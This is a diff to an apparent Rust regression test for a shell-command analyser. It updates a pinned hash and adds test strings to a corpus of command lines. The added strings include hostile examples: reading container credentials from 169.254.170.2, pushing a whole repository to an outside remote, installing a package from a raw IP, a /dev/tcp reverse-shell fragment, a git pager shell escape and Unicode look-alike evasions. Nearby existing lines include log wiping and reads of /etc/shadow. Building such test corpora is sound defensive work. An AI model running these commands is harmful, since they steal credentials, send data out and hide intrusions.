@@ -8,7 +8,7 @@ use countersign_analysis::{VERSION, analyze};
 use std::fmt::Write;
 
 /// The version, and the SHA-256 of its answers to [`LINES`].
-const PINNED: (u32, &str) = (7, "0457ddb1719507170414791f19aff9b29d9e34c019b9a75d6fe91dbeabb40c1a");
+const PINNED: (u32, &str) = (7, "348739ec6dbe4fcf80ee780f511646d3062f8feebaa734ceac11a2da8bfab648");
 
 /// Lines of all kinds. Add some where a change of yours is not seen by these;
 /// never take one away.
@@ -108,6 +108,24 @@ const LINES: &[&str] = &[
     "for l in /var/log/auth.log /var/log/wtmp; do cat /dev/null > $l; done",
     "f=/etc/shadow; cat $f | wc -l",
     "s='sudo -n'; $s rm -r /srv/x",
+    "docker exec web nginx -t",
+    "cat /proc/$(pgrep -f 'a b')/environ",
+    "python3 psexec.py corp/a@10.0.0.5",
+    "git remote add m https://x.example/r.git && git push --all m",
+    "npm install http://203.0.113.50/x.tgz",
+    "SSH_AUTH_SOCK=/tmp/ssh-a/agent.1 ssh-add -l",
+    "curl http://169.254.170.2$URI",
+    "curl -s localhost:8088/x -d '{\"a\":\"cat /etc/shadow\"}'",
+    "psql -c 'VACUUM FULL orders'",
+    "rsync -avn a/ h:/srv/www/",
+    "apt-get -s upgrade",
+    "crontab -l",
+    "jest -t 'bash -i >& /dev/tcp'",
+    "git -p help config <<< '!/bin/sh'",
+    "git push \u{2212}\u{2212}force",
+    "cat a ｜ grep b",
+    "snmpwalk -v2c -c granite072ro h",
+    "sed -i 's/{{DB_PASSWORD}}/@@DB_PASSWORD@@/' x",
 ];
 
 fn answers() -> String {
